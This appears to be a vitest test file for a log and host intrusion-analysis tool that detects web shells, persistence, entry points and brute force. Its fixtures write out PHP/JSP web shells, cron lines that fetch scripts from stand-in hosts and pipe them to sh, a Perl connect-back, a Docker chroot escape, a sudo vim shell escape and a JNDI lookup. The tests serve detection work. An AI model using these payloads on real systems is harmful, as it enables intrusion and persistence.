/** Hosts of other distributions and with other ways in, and what administrators leave in the same places. */
import { describe, expect, it } from 'vitest';
import { judgeScript } from '../../../src/logs/intrusion/shells.ts';
import { sheetOf } from './sheet-of.ts';

const request = (minute: number, client: string, what: string, status: number, bytes = 900): string =>
  `${client} - - [20/Nov/2026:10:${String(Math.floor(minute)).padStart(2, '0')}:${String(Math.round((minute % 1) * 60)).padStart(2, '0')} +0000] "${what} HTTP/1.1" ${status} ${bytes} "-" "Mozilla/5.0"\n`;

describe('scripts', () => {
  it.each([
    ['a.jsp', '<% Process p = Runtime.getRuntime().exec(new String[]{"sh","-c",request.getParameter("z")}); %>'],
    ['a.php', '<?php $c=$_COOKIE; if(isset($c["a"])){ $f=hex2bin($c["a"]); $f(hex2bin($c["b"])); }'],
    ['a.php', '<?php $f="cr"."eat"."e_fun"."ction"; $x=$f("",$code); $x();'],
  ])('that run what the request names are shells: %s %s', (file, text) => {
    expect(judgeScript(file, text)).toBeDefined();
  });
  it.each([
    ['a.php', '<?php $f = base64_decode($_GET["f"]); if (in_array($f, $known)) { $f(); }'],
    ['a.php', '<?php $title = "pre" . "view"; $name = base64_decode($_POST["name"]); echo render($name);'],
    ['a.jsp', '<% Runtime.getRuntime().exec("uptime"); String n = request.getParameter("n"); %>'],
  ])('that choose among their own are none: %s %s', (file, text) => {
    expect(judgeScript(file, text)).toBeUndefined();
  });
});

describe('files of other distributions', () => {
  it('name what was left behind', async () => {
    const { persistence, indicators } = await sheetOf({
      'etc/crontabs/root': '*/3 * * * * wget -q -O - http://192.0.2.5/a.sh | ash\n',
      'etc/local.d/net.start': '#!/bin/sh\nnohup /dev/shm/.k/kd &\n',
      'etc/init.d/after.local': '#!/bin/sh\n/usr/lib/.fonts/sd &\n',
      'var/spool/cron/tabs/wwwrun':
        '*/9 * * * * perl -MIO::Socket -e \'$c=new IO::Socket::INET(PeerAddr,"192.0.2.6:84");\'\n',
      'var/spool/cron/crontabs/jenkins':
        '@reboot /opt/jbd -o pool.example.com:7777 -u 84Zx\n*/5 * * * * echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L2ouc2h8c2g= | base64 -d | sh\n',
      'root/.ash_history': 'adduser -u 0 -D syslogd\n',
      'var/spool/cron/root': Buffer.from(
        'REDIS0009\xfa\0\x02\n\n*/2 * * * * curl -s http://192.0.2.8/f.sh | sh\n\n\xff',
        'latin1',
      ),
      'inspect.json':
        '[{"Path":"chroot","Args":["/mnt","sh","-c","curl -s http://192.0.2.9/c|bash"],"HostConfig":{"Binds":["/:/mnt"]}}]',
    });
    expect(new Set(persistence.map(({ proof }) => proof.file)).size).toBe(8);
    const values = indicators.map(({ value }) => value).join(' ');
    for (const value of ['192.0.2.5', '192.0.2.6', '192.0.2.7', '192.0.2.8', 'pool.example.com:7777'])
      expect(values).toContain(value);
  });

  it('tell nothing of what administrators have there', async () => {
    const sheet = await sheetOf({
      'etc/crontabs/root': '0 0 * * * "/opt/.acme.sh"/acme.sh --cron --home "/opt/.acme.sh" > /dev/null\n',
      'etc/local.d/sysctl.start': '#!/bin/sh\nsysctl -w net.core.somaxconn=1024\n',
      'inspect.json': '[{"Path":"/bin/node_exporter","Args":[],"HostConfig":{"Binds":["/:/host:ro,rslave"]}}]',
      'var/log/secure': `${['Nov 20 09:00:00 web1 sudo[1]: ops : TTY=pts/0 ; PWD=/srv/ops ; USER=root ; COMMAND=/usr/bin/vim /etc/motd', 'Nov 20 09:01:00 web1 sudo[2]: ops : TTY=pts/0 ; PWD=/srv/ops ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash neu'].join('\n')}\n`,
    });
    expect(sheet.persistence).toEqual([]);
    expect(sheet.entry).toBeUndefined();
    expect(sheet.attackers).toEqual([]);
  });
});

describe('ways in', () => {
  it('are a lookup, a console, a key used from elsewhere, and sudo', async () => {
    const logins = Array.from(
      { length: 6 },
      (_, i) =>
        `Nov 20 0${i}:30:00 jump sshd[1]: Accepted publickey for deploy from 10.0.0.7 port 4000${i} ssh2: RSA SHA256:a`,
    );
    const stolen = [
      'Nov 20 08:44:10 jump sshd[8]: Accepted publickey for deploy from 203.0.113.9 port 51022 ssh2: RSA SHA256:a',
      'Nov 20 08:46:20 jump useradd[9]: new user: name=nagios2, UID=0, GID=0, home=/x, shell=/bin/bash, from=/dev/pts/3',
      'Nov 20 08:47:00 jump sudo[7]: deploy : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/vim -c :!/bin/sh /etc/motd',
      'Nov 20 08:48:00 jump sudo[7]: deploy : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/chmod 4755 /var/tmp/.b',
    ];
    const first = await sheetOf({ 'var/log/secure': `${[...logins, ...stolen].join('\n')}\n` });
    expect(first.entry?.how).toMatch(/login of deploy .* from 203\.0\.113\.9.*nagios2/);
    expect(first.attackers[0]?.address).toBe('203.0.113.9');
    expect(first.persistence.map(({ why }) => why)).toEqual([
      expect.stringContaining('shell of root'),
      expect.stringContaining('rights of root'),
    ]);
    const second = await sheetOf({
      'access.log': [
        ...Array.from({ length: 9 }, (_, i) => request(i, '198.51.100.4', `GET /job/${i}`, 200)),
        request(9, '198.51.100.4', 'POST /script', 200),
        request(20, '203.0.113.5', 'GET /script', 200),
        request(21, '203.0.113.5', 'POST /script', 200),
      ].join(''),
    });
    expect(second.entry?.how).toBe('the script console of Jenkins was used by 203.0.113.5');
    expect(second.attackers.map(({ address }) => address)).toEqual(['203.0.113.5']);
    const third = await sheetOf({
      'app.log':
        '2026-11-20 05:40:02,110 WARN  [exec-4] o.a.l.l.c.net.JndiManager - Error looking up JNDI resource [ldap://192.0.2.9:1389/a].\n2026-11-20 05:40:03,110 INFO  [exec-4] app.Main - ready\n',
    });
    expect(third.entry?.how).toContain('ldap://192.0.2.9:1389');
  });

  it('are calls of one size, not those of a program that works', async () => {
    const calls = (client: string, size: (i: number) => number): string =>
      Array.from({ length: 150 }, (_, i) => request(i / 4, client, 'POST /xmlrpc.php', 200, size(i))).join('');
    const sheet = await sheetOf({
      'access.log': calls('203.0.113.5', () => 420) + calls('198.51.100.4', (i) => 400 + i * 3),
    });
    expect(sheet.bruteForce.map(({ address }) => address)).toEqual(['203.0.113.5']);
  });
});

it('reads events with their data one a line', async () => {
  const event = (minute: number, id: number, data: object): string =>
    `${JSON.stringify({ TimeCreated: `2026-11-20T01:${String(minute).padStart(2, '0')}:00Z`, Id: id, ProviderName: 'Microsoft-Windows-Security-Auditing', EventData: data })}\n`;
  const sheet = await sheetOf({
    'security.jsonl':
      Array.from({ length: 20 }, (_, i) =>
        event(i, 4625, { TargetUserName: 'kasse', IpAddress: '203.0.113.9', LogonType: '10' }),
      ).join('') + event(30, 4624, { TargetUserName: 'kasse', IpAddress: '203.0.113.9', LogonType: '10' }),
  });
  expect(sheet.bruteForce[0]).toMatchObject({ address: '203.0.113.9', tries: 20, success: { user: 'kasse' } });
  expect(sheet.entry?.time).toBe(Date.UTC(2026, 10, 20, 1, 30));
});
